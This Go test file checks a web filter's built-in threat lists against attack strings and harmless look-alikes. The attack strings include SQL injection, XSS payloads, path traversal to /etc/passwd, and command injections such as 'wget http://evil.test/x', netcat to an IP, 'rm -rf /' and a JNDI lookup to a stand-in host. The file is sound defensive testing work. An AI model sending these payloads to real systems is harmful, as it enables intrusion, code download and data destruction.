package filters

import (
	"maps"
	"slices"
	"strings"
	"testing"
)

// What each built-in list is for, and what looks like it and is not.
var threatCases = map[string]struct{ threats, harmless []string }{
	"sql-injection": {
		[]string{`' or 1=1 --`, `x' OR 'a'='a`, `" or "a"="a`, `1 UNION ALL SELECT name FROM users`, `1; DROP TABLE users`, `'); drop table users;`, `admin'--`, `admin'/*`,
			`1; delete from users`, `1 and sleep(5)`, `pg_sleep('5')`, `1; waitfor delay '0:0:5'`, `information_schema.tables`, `x' into outfile '/tmp/x'`, `1;exec xp_cmdshell`},
		[]string{`{"a":"or","b":"and"}`, `it's this or that`, `select a union representative`, `{"color":"#fff","note":"--"}`, `drop the table by the door`, `I'd sleep (a lot)`,
			`Ann's; Bob's`, `update: all is set`, `"this" or "that"`, `O'Brien and sons`},
	},
	"cross-site-scripting": {
		[]string{`<script>alert(1)</script>`, `< ScRiPt src=x>`, `</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<a href="javascript:alert(1)">`, `JaVaScRiPt :x`,
			`<iframe src=x>`, `data:text/html,<b>`, `width: expression(alert(1))`, `<body onload=x>`},
		[]string{`a < b and b > c`, `<b>bold</b>`, `I write JavaScript`, `x <3 y`, `{"on":"click","onion":"=1"}`, `description of a script`, `<scripture>`},
	},
	"path-traversal": {
		[]string{`../../etc/passwd`, `..\..\windows`, `/a/../b`, `file=../x`, `{"f":"../x"}`, `%2e%2e%2f`, `..%2f`, `.%2e/`, `%252e%252e%252f`, `/etc/passwd`, `C:\Windows\win.ini`, `%c0%ae%c0%ae/`, `/..`},
		[]string{`and so on...`, `wait.. what`, `1..10`, `v1.2/3`, `a../b`, `/etc/motd`, `...`},
	},
	"command-injection": {
		[]string{`; cat /etc/motd`, `| ls -la`, `&& wget http://evil.test/x`, "`id`", `$(whoami)`, `x|nc 1.2.3.4 5 `, `/bin/sh`, `/bin/bash -i`, `cmd.exe /c dir`, `powershell -enc x`, `() { :;}; echo`, `;ls`, `;rm -rf /`},
		[]string{`salt & pepper; cats and dogs`, `fish & chips`, "use `go test`", `$(document).ready(f)`, `a; b; c`, `Mozilla/5.0 (X11; Linux x86_64; rv:1)`, `rm is a command`, `x && y`},
	},
	"xml-entity":          {[]string{`<!DOCTYPE x [`, `<!ENTITY x SYSTEM "file:///">`}, []string{`<!-- doctype -->`, `<entity>`}},
	"lookup-injection":    {[]string{`${jndi:ldap://evil.test/a}`, `${${lower:j}ndi:x}`, `${env:HOME}`}, []string{`$100`, `{jndi}`, `${name}`, `jndi:ldap`}},
	"server-side-include": {[]string{`<!--#exec cmd="ls"-->`, `<!-- #include file="x" -->`}, []string{`<!-- exec -->`, `#include <x>`}},
	"crlf-injection":      {[]string{"a\r\nSet-Cookie: b", "a\nLocation: b", "a\r\nHTTP/1.1 200"}, []string{"a\r\nb: c", "one\ntwo", "Location: b"}},
	"control-characters":  {[]string{"a\x00b", "\x1b[31m", "\x7f"}, []string{"a\tb\r\nc", "é \u2028"}},
}

func TestThreatSets(t *testing.T) {
	if got, want := slices.Sorted(maps.Keys(threatCases)), slices.Sorted(maps.Keys(threatLists)); !slices.Equal(got, want) {
		t.Fatalf("tested are %q, there are %q", got, want)
	}
	for name, c := range threatCases {
		f := build(t, nil, func(f *threateningContent) { f.Sets = []string{name} })
		for _, text := range c.threats {
			if pass, err := f.Run(frame(text)); pass || err != nil {
				t.Errorf("%s lets %q pass (%v)", name, text, err)
			}
		}
		for _, text := range c.harmless {
			if pass, err := f.Run(frame(text)); !pass || err != nil {
				t.Errorf("%s stops %q (%v)", name, text, err)
			}
		}
	}
}

func TestThreatsAreNamedAndNotShown(t *testing.T) {
	f := build(t, nil, func(f *threateningContent) { f.Patterns = map[string]pattern{"ours": expr("(?i)sesame")} })
	for _, c := range []struct {
		target string
		lines  []string
		reason string // empty: passes
	}{
		{"/a?b=c", []string{"X-A: b", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "Accept: */*"}, ""},
		{"/a?b=Sesame", nil, "the query looks like a threat: ours"},
		{"/a?b=Se%73ame", nil, "the query looks like a threat: ours"},
		{"/a?b=Se%2573ame", nil, ""},
		{"/sesame/x", nil, "the path looks like a threat: ours"},
		{"/a", []string{"X-A: open sesame"}, "header X-A looks like a threat: ours"},
		{"/a", []string{"X-A: open ses%61me"}, "header X-A looks like a threat: ours"},
	} {
		m := upgrade(c.target, c.lines...)
		if c.reason == "" {
			passes(t, f, m)
			continue
		}
		fails(t, f, m, 400)
		if _, _, reason := m.Refusal(); reason != c.reason {
			t.Errorf("the reason is %s, want %s", reason, c.reason)
		}
	}
	passes(t, f, frame("' or 1=1")) // only our own list
	fails(t, f, binaryFrame("\xff\x00Sesame"), 400)
}

func TestWhatIsLookedAt(t *testing.T) {
	attack := func() *threateningContent {
		return build(t, nil, func(f *threateningContent) { f.Body, f.Headers, f.Query = false, false, false; f.Query = true })
	}
	f := attack()
	fails(t, f, upgrade("/?a=<script>"), 400)
	fails(t, f, upgrade("/?a=x'+or+1=1"), 400)
	passes(t, f, upgrade("/", "X-A: <script>"))
	passes(t, f, frame("<script>"))
	f.Query, f.Headers, f.ExceptHeaders = false, true, []string{"x-free"}
	passes(t, f, upgrade("/?a=<script>", "X-Free: <script>"))
	fails(t, f, upgrade("/", "X-A: <script>"), 400)
	f.Headers, f.Body = false, true
	fails(t, f, frame("<script>"), 400)
	fails(t, f, frame("%3Cscript%3E"), 400)
	fails(t, f, binaryFrame("\x00\xff<script>"), 400)
	passes(t, f, binaryFrame("\x00\xff\x1b"))
	fails(t, f, frame("\x1b[2J"), 400)
	passes(t, f, upgrade("/?a=<script>", "X-A: <script>"))
}

func TestThreateningContentSettingsThatAreRefused(t *testing.T) {
	for field, settings := range map[string]func(f *threateningContent){
		"sets.1":                 func(f *threateningContent) { f.Sets = []string{"xml-entity", "xml-entity"} },
		"patterns.sql-injection": func(f *threateningContent) { f.Patterns = map[string]pattern{"sql-injection": expr("x")} },
		"exceptHeaders.0":        func(f *threateningContent) { f.ExceptHeaders = []string{"a b"} },
		"body":                   func(f *threateningContent) { f.Body, f.Headers, f.Query = false, false, false },
	} {
		_, err := try(nil, settings)
		refused(t, err, field)
	}
}

// Ordinary text, and texts that keep the lists as busy as they can.
func BenchmarkThreateningContent(b *testing.B) {
	for name, text := range map[string]string{
		"chat":     `{"user":"ann","text":"what a lovely day, isn't it? see https://example.test/a/b.html"},`,
		"quotes":   `'or `,
		"brackets": `<a <b`,
		"dots":     ` ..x`,
		"mixed":    `; l' o" an<a onx union sel & c`,
		"comments": `union/*/**/`,
	} {
		b.Run(name, func(b *testing.B) {
			f := build(b, nil, func(*threateningContent) {})
			m := frame(strings.Repeat(text, 1<<20/len(text)))
			b.SetBytes(int64(len(m.Body())))
			for b.Loop() {
				if pass, err := f.Run(m); !pass || err != nil {
					b.Fatal(m.Refusal())
				}
			}
		})
	}
}

func FuzzUnescapeOnce(f *testing.F) {
	f.Add([]byte("a%41%zz+%"), true)
	f.Fuzz(func(t *testing.T, p []byte, plus bool) {
		decoded, ok := unescapeOnce(p, plus)
		if len(decoded) > len(p) || !ok && decoded != nil {
			t.Errorf("%q became %q, %v", p, decoded, ok)
		}
	})
}
